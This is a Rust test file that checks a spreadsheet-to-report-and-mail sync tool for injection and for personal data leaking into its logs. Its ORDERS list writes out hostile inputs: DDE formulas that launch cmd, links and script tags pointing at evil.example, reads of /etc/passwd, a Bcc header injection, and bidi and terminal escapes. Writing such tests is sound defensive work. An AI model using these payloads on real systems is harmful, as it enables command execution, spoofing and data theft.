//! What a sheet holds stays text wherever it goes: on the screen, in the log, in the report, in
//! the mails. And people stay out of the log.

use std::fs;
use std::io::{Cursor, Read};

use crate::support::letter;
use crate::support::package;
use crate::support::site::{HEAD, Site};

/// What spreadsheet programs, mail programs, browsers, templates and terminals would obey.
const ORDERS: [&str; 14] = [
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil.example/a\",\"b\")",
    "=DDE(\"cmd\",\"/c calc\",\"x\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "http://evil.example/b",
    "file:///etc/passwd",
    "<script src=http://evil.example/c></script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% include \"/etc/passwd\" %}",
    "x\r\nBcc: evil@evil.example\r\n\r\n<b>",
    "\u{202E}fdp.15-DQ\u{2066}\u{200F}",
    "\u{9B}2J\u{9D}0;x\u{9C}",
];

/// A name, a number and an address that may stand in the sheet, the store, the report: nowhere else.
const PERSON: [&str; 3] = ["Hoàng Chim Yến", "0909 123 456", "chim.yen@canary.example"];

/// A workbook in which every field of some commune holds an order.
fn workbook() -> Vec<u8> {
    let mut rows: Vec<Vec<String>> = vec![HEAD.trim_end().split(',').map(str::to_owned).collect()];
    rows[0].extend([
        "Email".to_owned(),
        "Ghi chú".to_owned(),
        "Link QĐ".to_owned(),
    ]);
    for (place, order) in ORDERS.iter().enumerate() {
        let commune = ["Phường Cẩm Thành", "Xã An Phú", order, "Phường Nghĩa Lộ"][place % 4];
        let mut row: Vec<String> = vec![
            commune.to_owned(),
            format!("{}/QĐ-UBND", place + 10),
            "28/7/2025".to_owned(),
            PERSON[0].to_owned(),
            "Thành viên".to_owned(),
            "Công chức Trung tâm PVHCC".to_owned(),
            PERSON[1].to_owned(),
            PERSON[2].to_owned(),
            "…".to_owned(),
            "https://a.example/qd".to_owned(),
        ];
        let field = 1 + place % 9;
        row[field] = (*order).to_owned();
        row[8] = format!("{order}{}", "ễ".repeat(33_000 * (place % 2)));
        rows.push(row);
    }
    let cell = |text: &String| {
        let text = text
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('\r', "&#13;");
        format!("<c t=\"inlineStr\"><is><t xml:space=\"preserve\">{text}</t></is></c>")
    };
    let rows: String = rows
        .iter()
        .map(|row| format!("<row>{}</row>", row.iter().map(cell).collect::<String>()))
        .collect();
    package::book(&rows)
}

fn site() -> Site {
    let mut site = Site::new();
    site.write("sheet.xlsx", workbook());
    site.tables = site.tables.replace("sheet.csv", "sheet.xlsx");
    site.configure();
    site
}

/// A letter that would turn, erase or answer something on a screen.
fn is_active(letter: char) -> bool {
    letter.is_control() && !matches!(letter, '\n' | '\t')
        || matches!(letter, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn screen_and_log_obey_nothing_and_name_nobody() {
    let site = site();
    let ran = site.run(&["sync", "-vv", "--as-of", "2025-09-30"]);
    assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);
    for shown in [&ran.out, &ran.err] {
        assert!(!shown.contains(is_active), "{shown}");
    }
    let checked = site.run(&["check", "sheet.xlsx", "-vv"]);
    assert!(!checked.out.contains(is_active) && !checked.err.contains(is_active));
    for log in [&ran.err, &checked.err] {
        for secret in PERSON.iter().chain(&["0909123456", "Chim Yến"]) {
            assert!(!log.contains(secret), "{secret}: {log}");
        }
    }
}

#[test]
fn the_report_holds_text_and_no_orders() {
    let site = site();
    let document = site.json(0, &["sync", "--as-of", "2025-09-30"]);
    let path = document["report"]["path"].as_str().expect("a report");
    let bytes = fs::read(path).expect("it is there");
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook");
    let mut all = String::new();
    for index in 0..zip.len() {
        let mut part = zip.by_index(index).expect("a part");
        let name = part.name().expect("a name").into_owned();
        let mut text = Vec::new();
        part.read_to_end(&mut text).expect("its bytes");
        let Ok(text) = String::from_utf8(text) else {
            assert!(name.starts_with("xl/media/"), "{name}");
            continue;
        };
        assert!(!text.contains(is_active), "{name}");
        for formula in text.split("<f>").skip(1) {
            let formula = formula.split("</f>").next().unwrap_or_default();
            assert!(
                !formula.contains("cmd") && !formula.contains("evil"),
                "{formula}"
            );
        }
        assert!(
            !name.contains("externalLink") && !name.contains("vba"),
            "{name}"
        );
        if name.ends_with(".rels") {
            assert!(
                !text.contains("evil.example") && !text.contains("file:"),
                "{text}"
            );
        }
        all.push_str(&text);
    }
    assert!(all.contains("calc"), "what was typed can be read");
}

#[test]
fn mails_have_the_heads_that_were_meant_and_no_markup_of_the_sheet() {
    let site = site();
    site.json(0, &["sync", "--as-of", "2025-09-30"]);
    let mails = site.files("var/mail");
    assert_eq!(mails.len(), 2);
    for name in mails {
        let mail = fs::read_to_string(site.path("var/mail").join(name)).expect("ASCII");
        assert!(mail.is_ascii() && !mail.to_lowercase().contains("bcc:"));
        for part in letter::parts(&mail) {
            let Ok(text) = String::from_utf8(part.bytes) else {
                continue;
            };
            let text = text.replace("\r\n", "\n");
            assert!(!text.contains(is_active), "{text}");
            if part.kind == "text/html" {
                for markup in ["<script", "<img", "evil.example", "{{"] {
                    assert!(!text.contains(markup), "{markup}: {text}");
                }
            }
        }
    }
}
